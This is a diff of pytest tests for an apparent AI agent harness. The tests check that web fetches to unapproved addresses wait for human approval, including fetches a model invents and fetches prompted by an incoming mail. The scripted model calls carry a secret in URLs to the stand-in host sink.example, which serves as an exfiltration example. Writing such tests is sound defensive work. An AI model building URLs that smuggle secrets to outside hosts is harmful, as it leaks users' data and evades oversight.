@@ -176,3 +176,54 @@ async def test_a_program_that_a_model_names_asks_before_it_can_send_a_folder(
     [question] = await world.questions(founded.team.id)
     assert "reach sink.example" in question.text
     assert not sink.has_secret
+
+
+@pytest.mark.parametrize("path", ["/?d={SECRET}", "/{SECRET}/x.png", "/a#{SECRET}"])
+async def test_an_address_that_the_model_made_up_asks_before_it_is_opened(
+    world: World, sink: Sink, app: Path, path: str
+) -> None:
+    founded = await with_folder(world, app)
+    read = call("read_file", path="folders/app/letter.txt")
+    open_it = call("web_fetch", url=sink.url(path.format(SECRET=SECRET)), wait=True)
+    await go_on_with(world, founded, read, open_it)
+    [question] = await world.questions(founded.team.id)
+    assert "the address would reach sink.example, which nobody has allowed" in question.text
+    assert f"the folder app there; this work has read {len(SECRET) * 10 + 10} b" in question.text
+    assert sink.received == b""
+    await world.answer(question, decision="approve")
+    await world.settle()
+    assert b"GET /" in sink.received
+
+
+async def test_a_mail_asks_before_its_words_are_in_an_address(world: World, sink: Sink) -> None:
+    founded = await world.found("Work", start=False)
+    world._models["ada"].lines += [  # type: ignore[attr-defined]
+        says(call("web_fetch", url=sink.url(f"/{SECRET}"))),
+        says(call("finish", summary="done")),
+    ]
+    await world.store.write(_mail, founded)
+    await world.settle()
+    [question] = await world.questions(founded.team.id)
+    assert "it can send mail there" in question.text
+    assert sink.received == b""
+
+
+@pytest.mark.parametrize("way", ["person", "file", "search", "docs", "reach", "read", "unread"])
+async def test_addresses_that_are_known_or_allowed_ask_nobody(
+    world: World, sink: Sink, app: Path, way: str
+) -> None:
+    address = sink.url("/page")
+    if way == "file":
+        (app / "letter.txt").write_text(f"See {address}.\n")
+    founded = await with_folder(world, app)
+    if way in ("reach", "read"):
+        await grant(world, founded, way, "sink.example")
+    if way == "person":
+        await world.say(founded.coordinator.id, f"Look at {address}.", team_id=founded.team.id)
+        await world.settle()
+    read, find = call("read_file", path="folders/app/letter.txt"), call("web_search", query="bread")
+    reads = {"unread": [], "search": [read, find]}.get(way, [read])
+    url = "https://docs.python.org/3/" if way == "docs" else address
+    await go_on_with(world, founded, *reads, call("web_fetch", url=url))
+    assert await world.questions(founded.team.id) == []
+    assert way == "docs" or b"GET /page" in sink.received
